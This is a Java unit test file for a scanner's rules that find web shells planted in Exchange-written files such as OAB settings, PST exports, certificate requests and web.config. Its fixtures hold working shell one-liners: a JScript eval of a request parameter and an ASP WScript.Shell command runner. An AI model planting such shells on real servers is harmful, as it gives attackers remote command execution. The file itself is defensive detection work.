package org.exhunt.hunt.sweep;

import static org.assertj.core.api.Assertions.assertThat;
import static org.exhunt.hunt.sweep.BuiltinRuleScanner.rulesMatching;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * Shells that Exchange itself is made to write keep the shape of what Exchange writes: an OAB
 * virtual directory listing, a PST, a certificate request. Each rule must find its shape with a
 * script inside and stay quiet on the same shape without one.
 */
class ExchangeWrittenShellRulesTest {

    private static final String SCRIPT =
            "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>";

    /** The OAB virtual directory as Exchange exports it (Get-OabVirtualDirectory | Format-List). */
    private static String oabSettings(String externalUrl) {
        return String.join("\r\n",
                "Name                            : OAB (Default Web Site)",
                "PollInterval                    : 480",
                "OfflineAddressBooks             :",
                "RequireSSL                      : False",
                "BasicAuthentication             : False",
                "WindowsAuthentication           : True",
                "OAuthAuthentication             : True",
                "MetabasePath                    : IIS://EX01.corp.local/W3SVC/1/ROOT/OAB",
                "Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB",
                "ExtendedProtectionTokenChecking : None",
                "InternalUrl                     : https://ex01.corp.local/OAB",
                "ExternalUrl                     : " + externalUrl,
                "AdminDisplayVersion             : Version 15.1 (Build 2106.2)",
                "");
    }

    @Test
    void oabSettingsWithAScriptInTheExternalUrlAreTheProxyLogonShell() {
        assertThat(rulesMatching(oabSettings("http://f/" + SCRIPT)))
                .contains("exhunt_exchange_oab_settings_with_script");
    }

    @Test
    void oabSettingsWithAnOrdinaryExternalUrlMatchNothing() {
        assertThat(rulesMatching(oabSettings("https://mail.corp.example/OAB"))).isEmpty();
    }

    @Test
    void aPstCarryingAServerScriptIsTheProxyShellExport() {
        byte[] pst = concat(pstHeader(), "\u0000\u0000 subject ".getBytes(StandardCharsets.ISO_8859_1),
                SCRIPT.getBytes(StandardCharsets.ISO_8859_1), new byte[64]);

        assertThat(rulesMatching(pst)).contains("exhunt_exchange_pst_with_script");
    }

    @Test
    void aPstWithoutScriptMatchesNothing() {
        byte[] pst = concat(pstHeader(), "an ordinary message body".getBytes(StandardCharsets.ISO_8859_1), new byte[64]);

        assertThat(rulesMatching(pst)).isEmpty();
    }

    @Test
    void aDerCertificateRequestCarryingAScriptIsFound() {
        byte[] der = concat(new byte[] {0x30, (byte) 0x82, 0x03, 0x10, 0x30, (byte) 0x82},
                "CN=".getBytes(StandardCharsets.ISO_8859_1), SCRIPT.getBytes(StandardCharsets.ISO_8859_1));

        assertThat(rulesMatching(der)).contains("exhunt_exchange_certificate_request_with_script");
    }

    @Test
    void aPemCertificateRequestCarryingAScriptIsFoundAndAPlainOneIsNot() {
        String header = "-----BEGIN NEW CERTIFICATE REQUEST-----\r\n";
        String plain = header + "MIIDEDCCAfgCAQAwgZ4xCzAJBgNVBAYTAlVTMRMwEQYDVQQIEwpXYXNoaW5ndG9u\r\n"
                + "-----END NEW CERTIFICATE REQUEST-----\r\n";

        assertThat(rulesMatching(header + SCRIPT + "\r\n")).contains("exhunt_exchange_certificate_request_with_script");
        assertThat(rulesMatching(plain)).isEmpty();
    }

    @Test
    void theRealExchangeWebConfigShapeWithHandlersMatchesNothing() {
        String config = "<configuration><system.webServer><handlers accessPolicy=\"Read, Execute, Script\">"
                + "<add name=\"OWA\" path=\"*.aspx\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers>"
                + "</system.webServer></configuration>";

        assertThat(rulesMatching(config)).isEmpty();
    }

    @Test
    void aWebConfigThatRunsItselfThroughAspDllAndCarriesCodeIsFound() {
        String config = "<configuration><system.webServer><handlers accessPolicy=\"Read, Script, Write\">\r\n"
                + "<add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" "
                + "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" />\r\n"
                + "</handlers></system.webServer></configuration>\r\n"
                + "<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec(Request(\"c\")).StdOut.ReadAll()) %> -->\r\n";

        assertThat(rulesMatching(config)).contains("exhunt_exchange_web_config_runs_script");
        assertThat(rulesMatching(config.substring(0, config.indexOf("<!--")))).isEmpty();
    }

    /** "!BDN", then the rest of a Unicode PST header's first bytes (values do not matter here). */
    private static byte[] pstHeader() {
        byte[] header = new byte[512];
        header[0] = '!';
        header[1] = 'B';
        header[2] = 'D';
        header[3] = 'N';
        header[8] = 'S';
        header[9] = 'M';
        header[10] = 23;
        return header;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) out.writeBytes(p);
        return out.toByteArray();
    }
}
